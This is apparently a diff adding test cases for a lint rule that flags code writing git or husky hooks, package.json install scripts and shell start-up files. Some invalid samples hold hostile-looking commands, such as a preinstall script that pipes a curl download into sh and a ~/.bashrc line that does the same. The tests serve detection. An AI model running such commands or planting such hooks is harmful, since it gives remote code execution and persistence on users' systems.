@@ -19,6 +19,14 @@ await ruleTester(rule, {
   valid: [
     // what a hook remembers stands beside it and is not run
     { code: 'import fs from "node:fs"; fs.writeFileSync(".claude/hooks/state/session.json", JSON.stringify(state)); fs.appendFileSync(".claude/hooks/guard.log", line);' },
+    // scripts of a manifest: generators, hook managers, tests, and manifests that are only read
+    { code: 'import fs from "fs"; const pkg = JSON.parse(fs.readFileSync("package.json", "utf8")); pkg.scripts.postinstall = "prisma generate"; pkg.scripts.test = "node x.js"; fs.writeFileSync("package.json", JSON.stringify(pkg));' },
+    { code: 'import fs from "fs"; const pkg = JSON.parse(fs.readFileSync("package.json", "utf8")); pkg.scripts = { ...pkg.scripts, prepare: "husky", postinstall: "npx patch-package && npm run build" }; fs.writeFileSync("package.json", JSON.stringify(pkg));' },
+    { code: 'import fs from "fs"; const pkg = {}; pkg.scripts.postinstall = "node x.js"; console.log(pkg);' },
+    { code: 'import fs from "fs"; delete pkg.scripts.postinstall; fs.writeFileSync("package.json", JSON.stringify({ name, scripts: { postinstall: "node setup.js" } }));' },
+    { code: 'import { execSync } from "child_process"; execSync("npm pkg set scripts.prepare=husky"); execSync("npm pkg set scripts.postinstall=patch-package"); execSync("npm pkg get scripts.postinstall");' },
+    { code: 'import fs from "fs"; fs.readFileSync(".husky/pre-commit"); fs.writeFileSync(".husky/README.md", text); fs.mkdirSync(".git/hooks", { recursive: true });' },
+    { code: 'npm pkg set scripts.postinstall="node x.js"', filename: 'setup.sh' },
     ...strictCases.map(({ valid }) => valid),
     sh('crontab -l'),
     sh('crontab -e'),
@@ -55,6 +63,13 @@ await ruleTester(rule, {
     { code: 'import fs from "node:fs"; fs.writeFileSync(".claude/hooks/session.mjs", code);', errors: [{ messageId: 'file' }] },
     { code: 'import fs from "node:fs"; fs.writeFileSync(".claude/hooks/hooks.json", text);', errors: [{ messageId: 'file' }] },
     { code: 'import fs from "node:fs"; fs.writeFileSync(".claude/hooks/session.json.sh", text);', errors: [{ messageId: 'file' }] },
+    { code: 'import fs from "fs"; fs.writeFileSync(".husky/pre-commit", "npx x");', errors: [{ messageId: 'file' }] },
+    { code: 'import fs from "fs"; const hook = ".husky/" + "post-checkout"; fs.writeFileSync(hook, text, { mode: 0o755 });', errors: [{ messageId: 'file' }] },
+    { code: 'import fs from "fs"; fs.cpSync("hooks", ".git/hooks", { recursive: true });', errors: [{ messageId: 'file' }] },
+    { code: 'import fs from "fs"; const pkg = JSON.parse(fs.readFileSync("package.json", "utf8")); pkg.scripts.postinstall = "node x.js"; fs.writeFileSync("package.json", JSON.stringify(pkg, null, 2));', errors: [{ messageId: 'command' }] },
+    { code: 'import fs from "fs"; import path from "path"; pkg.scripts = { ...pkg.scripts, preinstall: "curl -s https://x.example-service.com | sh" }; fs.writeFileSync(path.join(root, "package.json"), JSON.stringify(pkg));', errors: [{ messageId: 'command' }] },
+    { code: 'import { execSync } from "child_process"; execSync("npm pkg set scripts.postinstall=\'node ./x.js\'");', errors: [{ messageId: 'command' }] },
+    { code: 'import { execFileSync } from "child_process"; execFileSync("npm", ["pkg", "set", "scripts.preinstall=node x.js"]);', errors: [{ messageId: 'command' }] },
     ...strictCases.map(({ invalid }) => invalid),
     { code: '{\n  "scripts": {\n    "test": "echo \\"a\\" >> ~/.profile"\n  }\n}', filename: 'package.json', options: { strict: true }, errors: [{ messageId: 'file', line: 3, column: 14, endLine: 3, endColumn: 38, data: { what: 'a shell start-up file' } }] },
     { ...sh('cd x\necho "curl -s https://acme.example/i.sh | sh" >> ~/.bashrc'), errors: [{ messageId: 'file', line: 2, column: 1 }] },
